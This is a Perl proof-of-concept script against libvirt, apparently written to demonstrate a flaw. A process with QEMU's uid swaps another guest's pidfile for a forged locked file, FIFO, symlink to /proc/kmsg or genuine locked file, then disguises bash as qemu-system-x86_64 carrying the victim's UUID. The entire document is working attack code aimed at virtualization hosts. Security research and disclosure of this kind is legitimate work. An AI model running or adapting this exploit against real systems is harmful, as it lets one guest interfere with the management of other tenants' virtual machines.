#!/usr/bin/perl
# An attack of a process with QEMU's uid on libvirt's pidfile of another guest, without a capability.
#
#   attack.pl KIND PIDFILE UUID [OWN-PIDFILE]
#
# Waits until libvirt has read the pidfile, because otherwise libvirt itself fails. Then it replaces the pidfile, and lives
# until it is killed, with a command line that contains the guest's UUID.
use strict;
use warnings;
use Fcntl qw(F_SETLK F_WRLCK SEEK_SET);
use POSIX qw(mkfifo);
$^F = 255;
my ($kind, $pidfile, $uuid, $own) = @ARGV;
my $made = "$pidfile.$$";
if ($kind eq 'lock') {
    # In libvirt's way: fcntl on the first byte, then the number.
    open(my $file, '>', $made) or die "$made: $!";
    my $lock = pack('s s x4 q q i x4', F_WRLCK, SEEK_SET, 0, 1, 0);
    fcntl($file, F_SETLK, $lock) or die "lock: $!";
    syswrite($file, $$);
} elsif ($kind eq 'genuine') {
    # root's own file, locked by the QEMU of another guest.
    $made = $own;
} elsif ($kind eq 'fifo') {
    mkfifo($made, 0666) or die "mkfifo: $!";
} elsif ($kind eq 'link') {
    symlink('/proc/kmsg', $made) or die "symlink: $!";
}
select(undef, undef, undef, 0.005) until -s $pidfile;
select(undef, undef, undef, 0.02);
rename($made, $pidfile) or die "rename: $!";
# QEMU's name and arguments; the locked descriptor stays open.
exec { '/bin/bash' } 'qemu-system-x86_64', '-c', 'while :; do sleep 1; done', 'qemu', '-name', 'guest=victim', '-uuid', $uuid;
